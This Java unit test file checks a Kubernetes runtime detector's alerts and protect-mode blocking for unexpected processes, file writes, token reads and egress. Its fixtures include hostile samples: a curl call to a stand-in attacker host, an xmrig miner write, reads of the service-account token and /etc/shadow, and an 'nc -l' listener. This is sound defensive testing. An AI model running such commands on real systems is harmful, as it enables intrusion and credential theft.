package dev.vigil.detect.detector;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.detect.baseline.Baselines;
import dev.vigil.detect.baseline.Mode;
import dev.vigil.model.alert.Alert;
import dev.vigil.model.host.HostEvent;
import dev.vigil.model.identity.ContainerIdentity;
import dev.vigil.model.identity.Endpoint;
import dev.vigil.model.identity.IdentityResolver;
import dev.vigil.model.identity.WorkloadRef;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Host events as the host sensor writes them, through {@link HostDetectors}. */
class HostDetectorsTest {

    private static final long S = 1_000_000_000L;
    private static final long T0 = 1_764_000_000L * S;
    private static final WorkloadRef WEB = Lab.WEB;
    private static final String CONTAINER_ID = "4a40c2e6b7f1d3a58c9e0f1b2d3c4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d";
    private static final ContainerIdentity NGINX = new ContainerIdentity(CONTAINER_ID, "containerd", "shop", "web-7d9c-x1",
            "9c1e5f0a-uid", "web", "registry.lab/nginx:1.27", "sha256:0f3c", WEB);
    private static final HostEvent.Container CONTAINER = new HostEvent.Container(CONTAINER_ID, "containerd", NGINX);
    private static final String TOKEN =
            "/var/run/secrets/kubernetes.io/serviceaccount/..2026_11_26_16_53_44.123456789/token";

    /** The addresses of {@link Lab}'s cluster, as a resolver with a fixed table answers them. */
    private static final IdentityResolver CLUSTER = new IdentityResolver() {
        private final Map<String, Endpoint> table = Map.of("10.96.0.1", Lab.API, "10.96.0.10", Lab.KUBE_DNS,
                "10.244.0.21", Lab.DB_0);

        @Override
        public Endpoint resolve(String ip, Instant at) {
            return table.getOrDefault(ip, new Endpoint.External(ip, null));
        }

        @Override
        public Optional<ContainerIdentity> container(String containerId) {
            return Optional.empty();
        }
    };

    private final Baselines baselines = Lab.baselines();
    private final DnsNames names = new DnsNames();
    private final HostDetectors detectors = new HostDetectors(baselines, names, NetworkDetectorConfig.defaults(),
            Lab.alerts(), CLUSTER);
    private final Lab.Collected out = new Lab.Collected();

    static HostEvent.Process proc(int pid, String exe, String name, String parent, String... args) {
        return new HostEvent.Process(pid, 4100, name, exe, List.of(args), "/", List.of(parent, "containerd-shim"),
                new long[] {4100, 900}, 0, T0 - 5 * S, 0, 0, "root", 4100, 0x00000000a80425fbL, 4026532801L,
                4026532804L, 4026532806L, "/kubepods/besteffort/pod9c1e5f0a-uid/" + CONTAINER_ID, false, false);
    }

    static HostEvent exec(long t, HostEvent.Process p) {
        return new HostEvent("execve", t, "proc", p, CONTAINER, null, null, null, null, null);
    }

    static HostEvent open(long t, HostEvent.Process p, String path, String flags) {
        return new HostEvent("open", t, "file", p, CONTAINER, HostEvent.Fd.file(5, path, flags), null, null, null, null);
    }

    static HostEvent connect(long t, HostEvent.Process p, String sip, int sport, String l4) {
        HostEvent.Fd fd = new HostEvent.Fd(7, '4', "10.244.0.11:38812->" + sip + ":" + sport, l4, "10.244.0.11", 38812,
                sip, sport, null);
        return new HostEvent("connect", t, "syscall", p, CONTAINER, fd, "fd=7 res=0", 0L, null, null);
    }

    private static final HostEvent.Process NGINX_MASTER = proc(4101, "/usr/sbin/nginx", "nginx", "containerd-shim",
            "nginx", "-g", "daemon off;");
    private static final HostEvent.Process CURL = proc(4242, "/usr/bin/curl", "curl", "sh", "curl", "-s",
            "http://pool.evil.example:4444/x");

    @BeforeEach
    void learn() {
        detectors.event(exec(T0, NGINX_MASTER), out);
        detectors.event(open(T0 + S, NGINX_MASTER, "/etc/nginx/conf.d/default.conf", "w"), out);
        detectors.event(open(T0 + S, NGINX_MASTER, TOKEN, "r"), out);
        detectors.event(connect(T0 + S, NGINX_MASTER, "10.96.0.10", 53, "udp"), out);
        detectors.event(connect(T0 + S, NGINX_MASTER, "10.244.0.21", 5432, "tcp"), out);
        assertThat(out.alerts).isEmpty();
        baselines.setMode(WEB, Mode.MONITOR, T0 + 2 * S);
    }

    @Test
    void whatWasLearnedRaisesNothing() {
        detectors.event(exec(T0 + 10 * S, proc(4300, "/usr/sbin/nginx", "nginx", "containerd-shim", "nginx", "-g",
                "daemon off;")), out);
        detectors.event(open(T0 + 10 * S, NGINX_MASTER, "/etc/nginx/conf.d/upstream.conf", "w"), out);
        detectors.event(open(T0 + 10 * S, NGINX_MASTER, TOKEN.replace("..2026_11_26_16_53_44.123456789", "..data"), "r"), out);
        detectors.event(connect(T0 + 10 * S, NGINX_MASTER, "10.244.0.21", 5432, "tcp"), out);
        detectors.event(connect(T0 + 10 * S, CURL, "127.0.0.1", 9000, "tcp"), out);
        assertThat(out.alerts).isEmpty();
    }

    @Test
    void busyboxAppletsAreNamedByArgv0WhateverCommTheSensorRead() {
        baselines.setMode(WEB, Mode.LEARN, T0 + 3 * S);
        detectors.event(exec(T0 + 4 * S, proc(4400, "/usr/bin/busybox", "sleep", "sh", "sleep", "30")), out);
        baselines.setMode(WEB, Mode.MONITOR, T0 + 5 * S);
        // busybox runs applets as /proc/self/exe and renames itself after: comm is "exe" when read early
        detectors.event(exec(T0 + 10 * S, proc(4401, "/usr/bin/busybox", "exe", "sh", "sleep", "30")), out);
        assertThat(out.alerts).isEmpty();
        detectors.event(exec(T0 + 11 * S, proc(4402, "/usr/bin/busybox", "exe", "sh", "nc", "-l")), out);
        assertThat(out.alerts).singleElement().extracting(Alert::subject).isEqualTo("/usr/bin/busybox");
    }

    @Test
    void processesTheSensorCouldNotReadAreNotJudged() {
        HostEvent.Process gone = new HostEvent.Process(4500, 4100, "sh", null, null, null, List.of("sh"), new long[] {4100},
                -1, T0, -1, -1, null, -1, -1, 0, 0, 0, null, null, null);
        detectors.event(exec(T0 + 10 * S, gone), out);
        detectors.event(open(T0 + 10 * S, gone, TOKEN, "r"), out);
        assertThat(out.alerts).isEmpty();
    }

    @Test
    void connectsDescribedBeforeTheirPeerWasSetAreNotJudged() {
        detectors.event(connect(T0 + 10 * S, CURL, "0.0.0.0", 0, "tcp"), out);
        detectors.event(connect(T0 + 10 * S, CURL, "203.0.113.66", 0, "tcp"), out);
        assertThat(out.alerts).isEmpty();
    }

    @Test
    void aNewProcessIsReportedWithContainerImageAndProcess() {
        detectors.event(exec(T0 + 10 * S, CURL), out);
        Alert a = out.alerts.getFirst();
        assertThat(out.alerts).hasSize(1);
        assertThat(a.rule()).isEqualTo("Unexpected process in workload");
        assertThat(a.source()).isEqualTo("syscall");
        assertThat(a.output()).isEqualTo("Unexpected process in workload in shop/web-7d9c-x1 (container web, image"
                + " registry.lab/nginx:1.27): curl -s http://pool.evil.example:4444/x (pid 4242, parent sh, user root);"
                + " new executable /usr/bin/curl; not in the baseline of Deployment shop/web (monitor mode)");
        assertThat(a.workload()).isEqualTo(WEB);
        assertThat(a.subject()).isEqualTo("/usr/bin/curl");
        assertThat(a.outputFields()).containsEntry("container.id", "4a40c2e6b7f1").containsEntry("container.name", "web")
                .containsEntry("container.image.repository", "registry.lab/nginx").containsEntry("container.image.tag", "1.27")
                .containsEntry("k8s.ns.name", "shop").containsEntry("k8s.pod.name", "web-7d9c-x1")
                .containsEntry("proc.cmdline", "curl -s http://pool.evil.example:4444/x").containsEntry("proc.pid", 4242L)
                .containsEntry("proc.pname", "sh").containsEntry("proc.exepath", "/usr/bin/curl")
                .containsEntry("vigil.args.shape", "-s http://pool.evil.example:<n>/x");
        assertThat(a.evidence()).singleElement().asString().contains("\"evt.type\":\"execve\"", "\"proc.name\":\"curl\"");
        assertThat(out.decisions).isEmpty();
    }

    @Test
    void processesRunningWhenTheSensorStartsAreCheckedToo() {
        detectors.event(new HostEvent("process", T0 + 10 * S, "startup", NGINX_MASTER, CONTAINER, null, null, null, null,
                null), out);
        assertThat(out.alerts).isEmpty();
        detectors.event(new HostEvent("process", T0 + 10 * S, "startup", CURL, CONTAINER, null, null, null, null, null), out);
        assertThat(out.alerts).extracting(Alert::rule).containsExactly("Unexpected process in workload");
    }

    @Test
    void newArgumentsOfAKnownExecutableAreSaidSo() {
        detectors.event(exec(T0 + 10 * S, proc(4400, "/usr/sbin/nginx", "nginx", "sh", "nginx", "-s", "reload")), out);
        assertThat(out.alerts).singleElement().satisfies(a -> assertThat(a.output())
                .contains("; new arguments for /usr/sbin/nginx; not in the baseline"));
    }

    @Test
    void protectModeAsksToKillTheProcessInItsContainer() {
        baselines.setMode(WEB, Mode.PROTECT, T0 + 3 * S);
        detectors.event(exec(T0 + 10 * S, CURL), out);
        assertThat(out.decisions).singleElement().isInstanceOfSatisfying(Decision.KillProcess.class, d -> {
            assertThat(d.pid()).isEqualTo(4242);
            assertThat(d.startNanos()).isEqualTo(T0 - 5 * S);
            assertThat(d.containerId()).isEqualTo(CONTAINER_ID);
            assertThat(d.rule()).isEqualTo("Unexpected process in workload");
            assertThat(d.reason()).endsWith("(protect mode: blocking)");
        });
    }

    @Test
    void protectModeSaysWhenADeviationCannotBeStopped() {
        baselines.setMode(WEB, Mode.PROTECT, T0 + 3 * S);
        detectors.event(open(T0 + 10 * S, NGINX_MASTER, "/usr/local/bin/xmrig", "w"), out);
        assertThat(out.decisions).isEmpty();
        assertThat(out.alerts).singleElement().satisfies(a -> assertThat(a.output())
                .endsWith("not in the baseline of Deployment shop/web (protect mode: alert only, nothing to stop)"));
    }

    @Test
    void writesInNewDirectoriesAreReported() {
        detectors.event(open(T0 + 10 * S, CURL, "/usr/local/bin/xmrig", "w"), out);
        detectors.event(open(T0 + 10 * S, CURL, "/usr/local/bin/xmrig", "r"), out);
        assertThat(out.alerts).singleElement().satisfies(a -> {
            assertThat(a.rule()).isEqualTo("Unexpected file write in workload");
            assertThat(a.output()).contains("): curl -s http://pool.evil.example:4444/x (pid 4242, parent sh, user root)"
                    + " wrote /usr/local/bin/xmrig; no file was written in /usr/local/bin while learning;");
            assertThat(a.subject()).isEqualTo("/usr/local/bin");
            assertThat(a.outputFields()).containsEntry("fd.name", "/usr/local/bin/xmrig");
        });
    }

    @Test
    void theTokenReadByAProcessThatNeverReadItIsReported() {
        HostEvent.Process cat = proc(4500, "/bin/cat", "cat", "sh", "cat", TOKEN);
        detectors.event(open(T0 + 10 * S, cat, TOKEN, "r"), out);
        detectors.event(open(T0 + 10 * S, cat, "/run/secrets/kubernetes.io/serviceaccount/token", "r"), out);
        detectors.event(open(T0 + 10 * S, cat, "/var/run/secrets/tokens/vault-token", "r"), out);
        detectors.event(open(T0 + 10 * S, cat, "/etc/shadow", "r"), out);
        detectors.event(open(T0 + 10 * S, cat, "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt", "r"), out);
        assertThat(out.alerts).extracting(Alert::rule).containsOnly("Service account token read by unexpected process")
                .hasSize(2);
        assertThat(out.alerts.getFirst().output()).contains("): cat " + TOKEN + " (pid 4500, parent sh, user root) read "
                + TOKEN + "; /bin/cat never read the token while learning;");
        assertThat(ProcessBaselineDetector.isToken("/var/run/secrets/tokens/vault-token")).isFalse();
        assertThat(ProcessBaselineDetector.isToken("/var/run/secrets/tokens/token")).isTrue();
        assertThat(ProcessBaselineDetector.isToken("/var/run/secrets/eks.amazonaws.com/serviceaccount/token")).isTrue();
    }

    @Test
    void connectionsAreCheckedAtConnectWithTheProcessThatOpenedThem() {
        names.answered("shop", "web-7d9c-x1", "pool.evil.example", List.of("203.0.113.66"));
        detectors.event(connect(T0 + 10 * S, CURL, "203.0.113.66", 4444, "tcp"), out);
        detectors.event(connect(T0 + 10 * S, CURL, "10.96.0.1", 443, "tcp"), out);
        assertThat(out.alerts).extracting(Alert::rule).containsExactly("Unexpected egress", "Unexpected Kubernetes API contact");
        assertThat(out.alerts.getFirst().output()).isEqualTo("Unexpected egress in shop/web-7d9c-x1 (container web, image"
                + " registry.lab/nginx:1.27): curl -s http://pool.evil.example:4444/x (pid 4242, parent sh, user root) to"
                + " pool.evil.example (203.0.113.66:4444/tcp); not in the baseline of Deployment shop/web (monitor mode)");
        assertThat(out.alerts.getFirst().peer()).isEqualTo("external:pool.evil.example");
        assertThat(out.alerts.get(1).peer()).isEqualTo("kube-api:kubernetes");
    }

    @Test
    void protectModeBlocksAConnectionSeenAtConnect() {
        baselines.setMode(WEB, Mode.PROTECT, T0 + 3 * S);
        detectors.event(connect(T0 + 10 * S, CURL, "203.0.113.66", 4444, "tcp"), out);
        assertThat(out.decisions).singleElement().isInstanceOfSatisfying(Decision.BlockConnection.class, d -> {
            assertThat(d.pod()).isEqualTo("web-7d9c-x1");
            assertThat(d.id().respH()).isEqualTo("203.0.113.66");
            assertThat(d.id().origH()).isEqualTo("10.244.0.11");
        });
    }

    @Test
    void eventsWithoutAKnownPodAreNotBaselined() {
        HostEvent onHost = new HostEvent("execve", T0, "proc", CURL, null, null, null, null, null, null);
        HostEvent unknown = new HostEvent("execve", T0, "proc", CURL, new HostEvent.Container(CONTAINER_ID, "containerd",
                null), null, null, null, null, null);
        detectors.event(onHost, out);
        detectors.event(unknown, out);
        detectors.event(new HostEvent("ptrace", T0, "syscall", CURL, CONTAINER, null, "request=PTRACE_ATTACH pid=1", 0L,
                null, null), out);
        assertThat(out.alerts).isEmpty();
    }
}
